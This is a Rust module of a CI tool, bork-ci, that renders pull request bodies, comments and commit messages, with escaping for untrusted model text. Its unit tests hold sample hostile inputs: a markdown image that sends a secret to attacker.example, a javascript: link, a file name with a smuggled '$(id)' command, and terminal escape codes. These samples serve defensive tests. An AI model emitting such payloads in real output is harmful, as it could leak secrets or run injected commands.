//! Pure rendering of everything bork-ci writes on GitHub and in git: the result and approval
//! pull requests' titles and bodies with their hidden markers, the findings, resolved and
//! refused-push comments, and commit messages. No I/O: the session sends what this returns.
//!
//! Model, checker and reviewer text only ever appears inside code fences
//! ([`bork_ci_core::untrusted::markdown_block`]), paths and rules as code spans or one flattened line;
//! no link or image is taken from it. Every body stays under [`MAX_BODY_BYTES`] with its markers
//! intact.

use std::fmt::Write as _;

use super::data::{IterationSummary, MAX_BODY_BYTES, PendingEdit, PublishInput, sanitize_branch};
use super::state::{ApprovalRecord, ApprovalState, SavedState};
use bork_ci_core::findings::{Finding, Findings};

/// The hidden marker of the result pull request for `base`.
pub fn result_marker(base: &str) -> String {
    format!("<!-- bork-ci:result base={} -->", sanitize_branch(base))
}

/// The hidden marker of the findings comment.
pub fn findings_marker(base: &str) -> String {
    format!("<!-- bork-ci:findings base={} -->", sanitize_branch(base))
}

/// The hidden marker of an approval pull request.
pub fn approval_marker(base: &str, sha256: &str) -> String {
    format!(
        "<!-- bork-ci:approval base={} sha256={sha256} -->",
        sanitize_branch(base)
    )
}

/// Cuts `text` to at most `max` bytes at a character boundary, saying so (an open code fence
/// closed, as [`bork_ci_core::untrusted::cut_markdown`] does).
pub fn truncate(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_owned();
    }
    let note = "\n\n… (truncated: the full text is in the job log)\n";
    // Room for the note and a closing fence.
    bork_ci_core::untrusted::cut_markdown(text, max.saturating_sub(note.len() + 8), note)
}

fn finding_text(finding: &Finding) -> (Option<&str>, String) {
    match finding {
        Finding::CodeReview { file, finding } => (file.as_deref(), finding.clone()),
        Finding::Command {
            command,
            stdout,
            stderr,
            exit_code,
        } => (
            None,
            format!("$ {command}\nexit code {exit_code}\n--- stdout\n{stdout}\n--- stderr\n{stderr}"),
        ),
    }
}

/// The result pull request's body: what happened, then the hidden markers and state.
pub fn result_body(
    base: &str,
    input: &PublishInput,
    approvals: &[ApprovalRecord],
    state: &SavedState,
) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "## bork-ci: {}", input.status.as_str());
    let _ = writeln!(
        out,
        "\nbork-ci brought this branch in line with the specs on {}.\n",
        bork_ci_core::untrusted::code_span(base)
    );
    let _ = writeln!(out, "| iteration | updated | deleted | findings left |");
    let _ = writeln!(out, "|---:|---:|---:|---:|");
    for iteration in &input.iterations {
        let _ = writeln!(
            out,
            "| {} | {} | {} | {} |",
            iteration.number,
            iteration.applied.len(),
            iteration.deleted.len(),
            iteration.findings_left
        );
    }
    let (input_tokens, output_tokens, cached) = input.tokens;
    let _ = writeln!(
        out,
        "\nTokens: {input_tokens} in, {output_tokens} out, {cached} cached{}. Prompt version: {}.",
        input
            .cost_usd
            .map(|cost| format!(" (about ${cost:.4})"))
            .unwrap_or_default(),
        bork_ci_core::untrusted::code_span(&input.prompt_version)
    );
    if !approvals.is_empty() {
        let _ = writeln!(out, "\n### Changes waiting for approval\n");
        let _ = writeln!(
            out,
            "Each change below has its own pull request into this branch. Approve it with a \
             review (write access needed) to apply it, or request changes to reject it.\n"
        );
        for record in approvals {
            let what = match &record.state {
                ApprovalState::Pending => "pending".to_owned(),
                ApprovalState::Approved { .. } => "approved and applied".to_owned(),
                ApprovalState::Rejected { .. } => "rejected".to_owned(),
            };
            let _ = writeln!(
                out,
                "- {} ({}): #{} — {what}",
                bork_ci_core::untrusted::code_span(&record.path),
                bork_ci_core::untrusted::one_line(&record.rule),
                record.pr_number
            );
        }
    }
    if !input.refused.is_empty() {
        let _ = writeln!(out, "\n### Refused edits\n");
        for (path, reason) in &input.refused {
            let _ = writeln!(
                out,
                "- {}: {}",
                bork_ci_core::untrusted::code_span(path),
                bork_ci_core::untrusted::one_line(reason)
            );
        }
    }
    if !input.findings_left.is_empty() {
        let _ = writeln!(
            out,
            "\n### Findings left: {}\n\n<details><summary>show</summary>\n",
            input.findings_left.len()
        );
        out.push_str(&findings_list(&input.findings_left));
        let _ = writeln!(out, "\n</details>");
    }
    let markers = format!("\n{}\n{}\n", result_marker(base), state.to_marker());
    let mut body = truncate(&out, MAX_BODY_BYTES.saturating_sub(markers.len()));
    body.push_str(&markers);
    body
}

fn findings_list(findings: &Findings) -> String {
    let mut out = String::new();
    let mut by_file: Vec<(&str, Vec<String>)> = Vec::new();
    let mut overall = Vec::new();
    for finding in findings
        .per_file_findings
        .iter()
        .chain(findings.overall_findings.iter())
    {
        match finding_text(finding) {
            (Some(file), text) => match by_file.iter_mut().find(|(f, _)| *f == file) {
                Some((_, texts)) => texts.push(text),
                None => by_file.push((file, vec![text])),
            },
            (None, text) => overall.push(text),
        }
    }
    for (file, texts) in by_file {
        let _ = writeln!(out, "#### {}\n", bork_ci_core::untrusted::code_span(file));
        for text in texts {
            let _ = writeln!(out, "{}\n", bork_ci_core::untrusted::markdown_block(&text));
        }
    }
    if !overall.is_empty() {
        let _ = writeln!(out, "#### Overall\n");
        for text in overall {
            let _ = writeln!(out, "{}\n", bork_ci_core::untrusted::markdown_block(&text));
        }
    }
    out
}

/// The escalation comment: the findings left, per file.
pub fn findings_comment(base: &str, findings: &Findings, iterations: usize) -> String {
    let mut out = format!(
        "### bork-ci needs a human\n\nAfter {iterations} iterations these findings remain \
         ({} in all):\n\n",
        findings.len()
    );
    out.push_str(&findings_list(findings));
    let marker = format!("\n{}\n", findings_marker(base));
    let mut body = truncate(&out, MAX_BODY_BYTES.saturating_sub(marker.len()));
    body.push_str(&marker);
    body
}

/// The comment left once a later run converged.
pub fn resolved_comment(base: &str) -> String {
    format!(
        "### bork-ci: resolved\n\nA later run converged: no findings remain.\n\n{}\n",
        findings_marker(base)
    )
}

/// An approval pull request's body: the one change, its sha256, and how to decide.
pub fn approval_body(base: &str, edit: &PendingEdit, sha256: &str) -> String {
    let mut out = String::new();
    let action = if edit.delete { "delete" } else { "change" };
    let _ = writeln!(
        out,
        "## bork-ci asks to {action} {}\n\nRule: {}\n",
        bork_ci_core::untrusted::code_span(&edit.path),
        bork_ci_core::untrusted::one_line(&edit.rule)
    );
    let _ = writeln!(
        out,
        "Approve this pull request with a review to apply exactly this change (sha256 \
         `{sha256}`); request changes, with a comment saying why, to reject it. Only reviews \
         by people with write access on the current head commit count.\n"
    );
    if !edit.waiting.is_empty() {
        let _ = writeln!(
            out,
            "The checks wait on this change; these findings remain until it is decided:\n"
        );
        for finding in &edit.waiting {
            let _ = writeln!(out, "- {}", bork_ci_core::untrusted::one_line(finding));
        }
        out.push('\n');
    }
    if let Some(contents) = &edit.contents {
        let _ = writeln!(out, "<details><summary>proposed content</summary>\n");
        let _ = writeln!(out, "{}\n", bork_ci_core::untrusted::markdown_block(contents));
        let _ = writeln!(out, "</details>");
    }
    let marker = format!("\n{}\n", approval_marker(base, sha256));
    let mut body = truncate(&out, MAX_BODY_BYTES.saturating_sub(marker.len()));
    body.push_str(&marker);
    body
}

/// The title of the result pull request.
pub fn result_title(base: &str) -> String {
    bork_ci_core::untrusted::one_line(&format!("bork-ci: bring {base} in line with its specs"))
}

/// The title of an approval pull request.
pub fn approval_title(edit: &PendingEdit) -> String {
    bork_ci_core::untrusted::one_line(&format!(
        "bork-ci: approve {} {}",
        if edit.delete { "deletion of" } else { "change to" },
        edit.path
    ))
}

/// The result pull request's `body` with its saved state replaced by `state` (everything before
/// the old state marker is kept as it is).
pub fn body_with_state(body: &str, state: &SavedState) -> String {
    let visible = match body.find(SavedState::MARKER_OPEN) {
        Some(index) => body[..index].trim_end(),
        None => body.trim_end(),
    };
    format!("{visible}\n{}\n", state.to_marker())
}

/// The comment left on the result pull request when a push was refused.
pub fn push_refused_comment(branch: &str, error: &str) -> String {
    let note = format!(
        "bork-ci could not push to `{branch}`: someone else pushed to it, or the push \
         was refused. bork-ci does not force-push over other people's commits; \
         it stopped here.\n\n{}",
        bork_ci_core::untrusted::markdown_block(error)
    );
    truncate(&note, MAX_BODY_BYTES)
}

/// The commit message of one iteration: a title naming what changed, then the loop's summary.
pub fn iteration_message(summary: &IterationSummary) -> String {
    let mut parts = Vec::new();
    if !summary.applied.is_empty() {
        parts.push(format!("update {}", name_list(&summary.applied)));
    }
    if !summary.deleted.is_empty() {
        parts.push(format!("delete {}", name_list(&summary.deleted)));
    }
    let what = if parts.is_empty() {
        "no file changes".to_owned()
    } else {
        parts.join("; ")
    };
    let title = bork_ci_core::untrusted::one_line(&format!("bork-ci: iteration {}: {what}", summary.number));
    let mut body = String::new();
    let message = bork_ci_core::untrusted::one_line(&summary.message);
    if !message.is_empty() {
        body.push_str(&message);
        body.push_str("\n\n");
    }
    body.push_str(&format!("Findings left: {}\n", summary.findings_left));
    for path in &summary.applied {
        body.push_str(&format!(
            "- updated {}\n",
            bork_ci_core::untrusted::one_line(path)
        ));
    }
    for path in &summary.deleted {
        body.push_str(&format!(
            "- deleted {}\n",
            bork_ci_core::untrusted::one_line(path)
        ));
    }
    format!("{title}\n\n{body}")
}

fn name_list(paths: &[String]) -> String {
    let shown: Vec<&str> = paths.iter().take(3).map(String::as_str).collect();
    let mut text = shown.join(", ");
    if paths.len() > 3 {
        text.push_str(&format!(" and {} more", paths.len() - 3));
    }
    text
}

/// The commit message of an approval branch's one change; `tag` is its sha256 or `delete`.
pub fn approval_commit_message(edit: &PendingEdit, tag: &str) -> String {
    format!(
        "{}\n\nsha256: {tag}\n",
        bork_ci_core::untrusted::one_line(&format!(
            "bork-ci: {} {}",
            if edit.delete { "delete" } else { "update" },
            edit.path
        ))
    )
}

/// The merge commit's message when the base moved on under commits others pushed to bork-ci's
/// branch.
pub fn merge_message(base: &str, branch: &str) -> String {
    format!(
        "bork-ci: merge {} into {branch}",
        bork_ci_core::untrusted::one_line(base)
    )
}

/// The empty commit that opens a result pull request holding only approvals.
pub fn waiting_message(pending: usize) -> String {
    format!("bork-ci: waiting for approval of {pending} change(s)\n")
}

/// The merge title of an approved change.
pub fn approved_merge_title(path: &str, by: &str) -> String {
    bork_ci_core::untrusted::one_line(&format!(
        "bork-ci: apply approved change to {path} (approved by {by})"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use bork_ci_run::report::RunStatus;

    /// The text of `body` outside its code fences.
    fn outside_fences(body: &str) -> String {
        body.split("```").step_by(2).collect::<Vec<_>>().join("")
    }

    #[test]
    fn model_text_never_becomes_a_link_or_image() {
        let findings = Findings {
            per_file_findings: vec![Finding::CodeReview {
                file: Some("src/a`](x).rs".into()),
                finding: "![x](https://attacker.example/?d=secret) [click](javascript:alert(1))".into(),
            }],
            overall_findings: vec![],
        };
        let body = findings_comment("main", &findings, 5);
        let outside = outside_fences(&body);
        assert!(!outside.contains("](https://attacker"), "{body}");
        assert!(!outside.contains("`](x)"));
        assert!(body.contains(&findings_marker("main")));
    }

    #[test]
    fn bodies_stay_under_the_limit_with_markers() {
        let input = PublishInput {
            status: RunStatus::NeedsHuman,
            findings_left: Findings {
                per_file_findings: (0..3000)
                    .map(|i| Finding::CodeReview {
                        file: Some(format!("f{i}.rs")),
                        finding: "x".repeat(100),
                    })
                    .collect(),
                overall_findings: vec![],
            },
            ..PublishInput::default()
        };
        let state = SavedState::default();
        let body = result_body("main", &input, &[], &state);
        assert!(body.len() <= MAX_BODY_BYTES, "{}", body.len());
        assert!(body.contains(&result_marker("main")));
        assert_eq!(SavedState::from_body(&body), Some(state));
        let edit = PendingEdit {
            path: "specs/big.md".into(),
            contents: Some("```\n".repeat(40_000)),
            ..PendingEdit::default()
        };
        let body = approval_body("main", &edit, "00");
        assert!(body.len() <= MAX_BODY_BYTES, "{}", body.len());
        assert!(body.ends_with(&format!("\n{}\n", approval_marker("main", "00"))));
        let refused = push_refused_comment("bork/main", &"e".repeat(100_000));
        assert!(refused.len() <= MAX_BODY_BYTES, "{}", refused.len());
    }

    #[test]
    fn markers_name_the_sanitised_base() {
        assert_eq!(result_marker("main"), "<!-- bork-ci:result base=main -->");
        assert_eq!(
            findings_marker("a b --> c"),
            "<!-- bork-ci:findings base=a-b-----c -->"
        );
        assert_eq!(
            approval_marker("main", "ab12"),
            "<!-- bork-ci:approval base=main sha256=ab12 -->"
        );
    }

    #[test]
    fn an_approval_body_shows_the_change_fenced_and_its_hash() {
        let edit = PendingEdit {
            path: "specs/a`b.md".into(),
            delete: false,
            contents: Some("[click](https://attacker.example)\n".into()),
            sha256: None,
            rule: "specs/**\nsecond line".into(),
            waiting: vec!["`tests/a.rs`: `adds` failed\nat line 3".into()],
        };
        let body = approval_body("main", &edit, "ab12");
        assert!(body.starts_with("## bork-ci asks to change "), "{body}");
        assert!(body.contains("Rule: specs/** second line\n"), "{body}");
        assert!(
            body.contains("the checks wait on this change")
                || body.contains("The checks wait on this change"),
            "{body}"
        );
        assert!(
            body.contains("- `tests/a.rs`: `adds` failed at line 3\n"),
            "{body}"
        );
        assert!(body.contains("(sha256 `ab12`)"), "{body}");
        assert!(!outside_fences(&body).contains("](https://attacker"), "{body}");
        let deletion = PendingEdit {
            delete: true,
            contents: None,
            ..edit
        };
        let body = approval_body("main", &deletion, "delete");
        assert!(body.starts_with("## bork-ci asks to delete "), "{body}");
        assert!(!body.contains("proposed content"), "{body}");
    }

    #[test]
    fn the_saved_state_is_replaced_in_place() {
        let mut state = SavedState {
            version: 1,
            base: "main".into(),
            ..SavedState::default()
        };
        let body = format!("visible text\n\n{}\n", state.to_marker());
        state.iterations = 3;
        let replaced = body_with_state(&body, &state);
        assert_eq!(replaced, format!("visible text\n{}\n", state.to_marker()));
        assert_eq!(SavedState::from_body(&replaced), Some(state.clone()));
        assert_eq!(
            body_with_state("no state yet  ", &state),
            format!("no state yet\n{}\n", state.to_marker())
        );
    }

    #[test]
    fn commit_messages_are_one_title_line_and_escaped() {
        let summary = IterationSummary {
            number: 2,
            applied: vec!["--help $(id);x.txt".into()],
            deleted: vec!["a.txt".into()],
            findings_left: 1,
            message: "fix\nthings\u{1b}[2J".into(),
        };
        assert_eq!(
            iteration_message(&summary),
            "bork-ci: iteration 2: update --help $(id);x.txt; delete a.txt\n\n\
             fix things[2J\n\n\
             Findings left: 1\n\
             - updated --help $(id);x.txt\n\
             - deleted a.txt\n"
        );
        let many = IterationSummary {
            number: 1,
            applied: (0..5).map(|i| format!("f{i}")).collect(),
            ..IterationSummary::default()
        };
        assert!(
            iteration_message(&many).starts_with("bork-ci: iteration 1: update f0, f1, f2 and 2 more\n"),
            "{}",
            iteration_message(&many)
        );
        let edit = PendingEdit {
            path: "specs/a\nb.md".into(),
            ..PendingEdit::default()
        };
        assert_eq!(
            approval_commit_message(&edit, "ab12"),
            "bork-ci: update specs/a b.md\n\nsha256: ab12\n"
        );
        assert_eq!(
            merge_message("ma\nin", "bork/main"),
            "bork-ci: merge ma in into bork/main"
        );
        assert_eq!(
            waiting_message(2),
            "bork-ci: waiting for approval of 2 change(s)\n"
        );
    }

    #[test]
    fn titles_are_one_clean_line() {
        assert_eq!(bork_ci_core::untrusted::one_line("a\nb\u{1b}[2J  c"), "a b[2J c");
        assert_eq!(bork_ci_core::untrusted::one_line(&"x".repeat(500)).len(), 200);
        assert_eq!(
            result_title("main\u{1b}[2J"),
            "bork-ci: bring main[2J in line with its specs"
        );
        let edit = PendingEdit {
            path: "specs/a.md".into(),
            delete: true,
            ..PendingEdit::default()
        };
        assert_eq!(approval_title(&edit), "bork-ci: approve deletion of specs/a.md");
        assert_eq!(
            approved_merge_title("specs/a.md", "alice\n"),
            "bork-ci: apply approved change to specs/a.md (approved by alice )"
        );
    }
}
